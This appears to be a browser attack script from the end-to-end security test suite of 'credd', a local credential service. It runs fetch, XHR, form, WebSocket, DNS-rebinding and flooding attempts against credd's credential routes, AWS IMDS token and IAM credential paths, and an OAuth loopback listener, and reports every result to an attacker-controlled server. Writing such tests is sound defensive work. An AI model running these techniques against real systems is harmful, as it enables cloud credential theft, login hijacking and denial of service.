// The attacker's script (credd's e2e suite, attacks::browser), run by a real Chromium in one
// scenario (?scenario=) per frame: every trick a web page has to read credd's credentials, get
// an IMDS token, and complete, cancel or stall a pending login through its loopback listener.
// Everything it observes (statuses, bodies, headers, errors, events, timings) is reported to the
// attacker's server, whose test checks that none of it is a secret. The ports are handed to it
// (a page would scan for them). Then the cross-site frame floods the login listener until the
// attacker's server says stop, while the test signs in as the owner.
'use strict';

const query = new URLSearchParams(location.search);
const scenario = query.get('scenario');
const creddPort = query.get('credd');
const loginPort = query.get('login');
const reportTo = query.get('report');
/// How long any one attempt may take before it is recorded as a time-out.
const WAIT_MS = 8000;

/// Where this scenario aims: credd's HTTP port and the login listener, as this page reaches them.
function targets() {
  switch (scenario) {
    case 'cross-site':
      return {
        credd: [`http://127.0.0.1:${creddPort}`, `http://localhost:${creddPort}`],
        login: [`http://127.0.0.1:${loginPort}`, `http://localhost:${loginPort}`],
      };
    case 'rebind-name':
      return {
        credd: [`http://rebind.test:${creddPort}`],
        login: [`http://rebind.test:${loginPort}`],
      };
    // Same-origin: these responses are the page's to read, should credd answer.
    case 'rebound-credd':
      return { credd: [location.origin], login: [] };
    case 'rebound-login':
      return { credd: [], login: [location.origin] };
    default:
      throw new Error(`unknown scenario ${scenario}`);
  }
}

const results = [];
function record(attempt, url, outcome) {
  results.push({ attempt, url, ...outcome });
}

function since(started) {
  return Math.round(performance.now() - started);
}

/// `fetch` as given; whatever the page gets to see of the answer.
async function tryFetch(attempt, url, init = {}) {
  const started = performance.now();
  const abort = new AbortController();
  const timer = setTimeout(() => abort.abort(), WAIT_MS);
  const out = {};
  try {
    const response = await fetch(url, { ...init, signal: abort.signal });
    out.status = response.status;
    out.type = response.type;
    out.redirected = response.redirected;
    out.finalUrl = response.url;
    out.headers = [...response.headers].map(([k, v]) => `${k}: ${v}`);
    try {
      out.body = await response.text();
    } catch (e) {
      out.bodyError = String(e);
    }
  } catch (e) {
    out.error = String(e);
  }
  clearTimeout(timer);
  out.ms = since(started);
  record(attempt, url, out);
  return out;
}

/// An element that loads `url` (img, script, iframe, link): the events it fires, and what the
/// page can read of it afterwards.
function load(attempt, url, tag, set = (el) => { el.src = url; }) {
  return new Promise((resolve) => {
    const started = performance.now();
    const el = document.createElement(tag);
    let done = false;
    const finish = (event) => {
      if (done) return;
      done = true;
      const out = { event, ms: since(started) };
      if (tag === 'img') {
        out.size = `${el.naturalWidth}x${el.naturalHeight}`;
      }
      if (tag === 'iframe') {
        try {
          out.body = el.contentDocument.documentElement.outerHTML;
        } catch (e) {
          out.readError = String(e);
        }
        try {
          out.location = String(el.contentWindow.location.href);
        } catch (e) {
          out.locationError = String(e);
        }
      }
      if (tag === 'link') {
        try {
          out.rules = [...el.sheet.cssRules].map((r) => r.cssText).join('\n');
        } catch (e) {
          out.readError = String(e);
        }
      }
      el.remove();
      record(attempt, url, out);
      resolve();
    };
    el.addEventListener('load', () => finish('load'));
    el.addEventListener('error', () => finish('error'));
    setTimeout(() => finish('timeout'), WAIT_MS);
    set(el);
    document.body.append(el);
  });
}

let frames = 0;
/// A form auto-submitted into a hidden frame (a classic cross-site request): the frame's load,
/// and what the page can read of it.
function submit(attempt, url, method, fields, enctype) {
  return new Promise((resolve) => {
    const started = performance.now();
    const name = `target-${++frames}`;
    const frame = document.createElement('iframe');
    frame.name = name;
    document.body.append(frame);
    const form = document.createElement('form');
    form.method = method;
    form.action = url;
    form.target = name;
    if (enctype) form.enctype = enctype;
    for (const [key, value] of Object.entries(fields)) {
      const input = document.createElement('input');
      input.type = 'hidden';
      input.name = key;
      input.value = value;
      form.append(input);
    }
    document.body.append(form);
    let done = false;
    const finish = (event) => {
      if (done) return;
      done = true;
      const out = { event, ms: since(started) };
      try {
        out.body = frame.contentDocument.documentElement.outerHTML;
      } catch (e) {
        out.readError = String(e);
      }
      frame.remove();
      form.remove();
      record(attempt, url, out);
      resolve();
    };
    // Added after the frame's own about:blank load.
    frame.addEventListener('load', () => finish('load'));
    setTimeout(() => finish('timeout'), WAIT_MS);
    form.submit();
  });
}

/// A WebSocket to `url`: the events, and any message.
function socket(attempt, url) {
  return new Promise((resolve) => {
    const started = performance.now();
    const out = { events: [] };
    let done = false;
    const finish = () => {
      if (done) return;
      done = true;
      out.ms = since(started);
      record(attempt, url, out);
      resolve();
    };
    let ws;
    try {
      ws = new WebSocket(url);
    } catch (e) {
      out.error = String(e);
      finish();
      return;
    }
    ws.onopen = () => {
      out.events.push('open');
      ws.send('GET /v1/credentials');
    };
    ws.onmessage = (e) => out.events.push(`message ${e.data}`);
    ws.onerror = () => out.events.push('error');
    ws.onclose = (e) => {
      out.events.push(`close ${e.code} ${e.reason}`);
      finish();
    };
    setTimeout(() => {
      if (done) return;
      out.events.push('timeout');
      ws.close();
      finish();
    }, WAIT_MS);
  });
}

/// XMLHttpRequest, with the page's cookies.
function xhr(attempt, url, method, headers = {}) {
  return new Promise((resolve) => {
    const started = performance.now();
    const req = new XMLHttpRequest();
    req.open(method, url);
    req.withCredentials = true;
    req.timeout = WAIT_MS;
    for (const [k, v] of Object.entries(headers)) req.setRequestHeader(k, v);
    const finish = (event) => {
      record(attempt, url, {
        event,
        status: req.status,
        body: req.responseText,
        headers: req.getAllResponseHeaders(),
        ms: since(started),
      });
      resolve();
    };
    req.onload = () => finish('load');
    req.onerror = () => finish('error');
    req.ontimeout = () => finish('timeout');
    req.send();
  });
}

function beacon(attempt, url, body) {
  let queued;
  try {
    queued = navigator.sendBeacon(url, body);
  } catch (e) {
    queued = String(e);
  }
  record(attempt, url, { queued });
}

/// Every way to read credentials (the container routes, current and pinned) and IMDS at `base`.
async function attackCredd(base) {
  const ws = base.replace(/^http/, 'ws');
  const guess = 'a'.repeat(64);
  for (const path of ['/v1/credentials', '/v1/credentials/staging', '/v1/credentials/deploy']) {
    const url = base + path;
    await Promise.all([
      tryFetch('fetch', url),
      tryFetch('fetch no-cors', url, { mode: 'no-cors' }),
      tryFetch('fetch with credentials', url, { credentials: 'include' }),
      tryFetch('fetch no-cors with credentials', url, { mode: 'no-cors', credentials: 'include' }),
      // A custom header: preflighted cross-origin, sent as is same-origin.
      tryFetch('fetch with a guessed token', url, { headers: { Authorization: guess } }),
      tryFetch('fetch POST', url, { method: 'POST', mode: 'no-cors', body: 'x' }),
      xhr('xhr', url, 'GET'),
      load('img', url, 'img'),
      load('script', url, 'script'),
      load('iframe', url, 'iframe'),
      load('stylesheet', url, 'link', (el) => { el.rel = 'stylesheet'; el.href = url; }),
      submit('form GET', url, 'GET', { profile: 'staging' }),
      submit('form POST', url, 'POST', { profile: 'staging' }, 'text/plain'),
      socket('websocket', ws + path),
    ]);
    beacon('beacon', url, 'x');
  }

  // IMDS: the token PUT, then every route with and without a token.
  const token = `${base}/latest/api/token`;
  const ttl = { 'X-aws-ec2-metadata-token-ttl-seconds': '21600' };
  const tokens = await Promise.all([
    tryFetch('IMDS token PUT', token, { method: 'PUT', headers: ttl }),
    tryFetch('IMDS token PUT no-cors', token, { method: 'PUT', mode: 'no-cors', headers: ttl }),
    tryFetch('IMDS token PUT without TTL', token, { method: 'PUT' }),
    tryFetch('IMDS token POST no-cors', token, { method: 'POST', mode: 'no-cors', body: '' }),
    tryFetch('IMDS token GET', token, { headers: ttl }),
    xhr('IMDS token PUT xhr', token, 'PUT', ttl),
    submit('IMDS token form POST', token, 'POST', { ttl: '21600' }, 'text/plain'),
    socket('IMDS token websocket', `${ws}/latest/api/token`),
  ]);
  // Should any answer have looked like a token, it is tried.
  const got = tokens.map((t) => (t && t.body) || '').find((b) => /^[0-9a-f]{64}$/.test(b));
  const imdsToken = got || guess;
  const metadata = [
    '/latest/meta-data/iam/security-credentials/',
    '/latest/meta-data/iam/security-credentials/staging',
    '/latest/meta-data/iam/security-credentials-extended/staging',
    '/latest/meta-data/placement/region',
    '/healthz',
  ];
  for (const path of metadata) {
    const url = base + path;
    await Promise.all([
      tryFetch('IMDS GET', url),
      tryFetch('IMDS GET no-cors', url, { mode: 'no-cors' }),
      tryFetch('IMDS GET with a token', url, {
        headers: { 'X-aws-ec2-metadata-token': imdsToken, 'X-amzn-extended': '1' },
      }),
      load('IMDS img', url, 'img'),
      load('IMDS script', url, 'script'),
      load('IMDS iframe', url, 'iframe'),
      socket('IMDS websocket', ws + path),
    ]);
  }
}

/// Every way to complete, cancel or stall the pending login through its listener at `base`.
async function attackLogin(base) {
  const ws = base.replace(/^http/, 'ws');
  const callback = `${base}/oauth/callback`;
  const start = `${base}/oauth/start`;
  // Complete it with a code of the attacker's, guessing the state.
  const guesses = [];
  for (let i = 0; i < 40; i++) {
    const url = `${callback}?code=attackers-code&state=guess-${i}`;
    guesses.push(tryFetch('callback with a guessed state', url, { mode: 'no-cors' }));
  }
  await Promise.all(guesses);
  await Promise.all([
    tryFetch('callback', `${callback}?code=attackers-code&state=guess`),
    tryFetch('callback without a state', `${callback}?code=attackers-code`, { mode: 'no-cors' }),
    tryFetch('callback with an empty state', `${callback}?code=attackers-code&state=`, {
      mode: 'no-cors',
    }),
    // Cancel it: the identity provider's refusal, with a guessed state or none.
    tryFetch('cancel', `${callback}?error=access_denied&state=guess`, { mode: 'no-cors' }),
    tryFetch('cancel without a state', `${callback}?error=access_denied`, { mode: 'no-cors' }),
    tryFetch('cancel with a guessed header', `${callback}?error=access_denied`, {
      headers: { 'X-Cancel': '1' },
    }),
    tryFetch('callback POST', callback, { method: 'POST', mode: 'no-cors', body: 'code=x&state=y' }),
    tryFetch('callback DELETE', callback, { method: 'DELETE' }),
    load('callback img', `${callback}?code=attackers-code&state=guess`, 'img'),
    load('callback script', `${callback}?code=attackers-code&state=guess`, 'script'),
    load('callback iframe', `${callback}?error=access_denied&state=guess`, 'iframe'),
    submit('callback form GET', callback, 'GET', { code: 'attackers-code', state: 'guess' }),
    submit('callback form POST', callback, 'POST', { code: 'attackers-code', state: 'guess' }),
    socket('callback websocket', `${ws}/oauth/callback?code=attackers-code&state=guess`),
    // Start it from the page (following the redirect to the identity provider, which would
    // approve and send the browser back with the owner's code), or read where it redirects.
    tryFetch('start', start),
    tryFetch('start following', start, { mode: 'no-cors' }),
    tryFetch('start manual', start, { redirect: 'manual' }),
    tryFetch('start no-cors manual', start, { mode: 'no-cors', redirect: 'manual' }),
    load('start iframe', start, 'iframe'),
    load('start img', start, 'img'),
    load('start script', start, 'script'),
    submit('start form', start, 'GET', {}),
    xhr('start xhr', start, 'GET'),
  ]);
  // Stall it: many requests at once on every connection the browser will open to it, and
  // connections opened ahead (preconnect) under many host names that resolve to it.
  const stall = [];
  const port = new URL(base).port;
  for (let i = 0; i < 24; i++) {
    const link = document.createElement('link');
    link.rel = 'preconnect';
    link.href = `http://s${i}.rebind.test:${port}`;
    document.head.append(link);
  }
  for (let i = 0; i < 120; i++) {
    stall.push(tryFetch('stall', `${callback}?code=stall&state=stall-${i}`, { mode: 'no-cors' }));
  }
  for (let i = 0; i < 24; i++) {
    const url = `http://s${i}.rebind.test:${port}/oauth/callback?code=stall&state=stall`;
    stall.push(tryFetch('stall under another name', url, { mode: 'no-cors' }));
  }
  await Promise.all(stall);
}

/// Keeps the login listener busy (connections opened ahead under new names, bursts of requests)
/// for as long as the attacker's server says so: the owner signs in meanwhile.
async function keepStalling() {
  const port = loginPort;
  for (let round = 0; ; round++) {
    const go = await fetch(`${reportTo}/keep-stalling`).then((r) => r.text(), () => 'no');
    if (go !== 'yes') return round;
    for (let i = 0; i < 8; i++) {
      const link = document.createElement('link');
      link.rel = 'preconnect';
      link.href = `http://k${round}-${i}.rebind.test:${port}`;
      document.head.append(link);
    }
    const burst = [];
    for (let i = 0; i < 30; i++) {
      const url = `http://127.0.0.1:${port}/oauth/callback?code=stall&state=stall-${i}`;
      burst.push(fetch(url, { mode: 'no-cors' }).catch(() => {}));
    }
    await Promise.all(burst);
  }
}

async function report(phase, extra = {}) {
  const body = JSON.stringify({ scenario, origin: location.origin, phase, ...extra });
  // text/plain and no-cors: no preflight, whichever origin this frame is.
  await fetch(`${reportTo}/report`, {
    method: 'POST',
    mode: 'no-cors',
    headers: { 'Content-Type': 'text/plain' },
    body,
  });
}

window.addEventListener('error', (e) => {
  record('window error', e.filename || '', { message: String(e.message) });
});

(async () => {
  const started = performance.now();
  try {
    await report('started');
    const { credd, login } = targets();
    for (const base of credd) await attackCredd(base);
    for (const base of login) await attackLogin(base);
    await report('done', { results, ms: since(started) });
    if (scenario === 'cross-site') {
      const rounds = await keepStalling();
      await report('stalled', { rounds });
    }
  } catch (e) {
    await report('failed', { error: `${e}\n${e.stack}`, results });
  }
})();
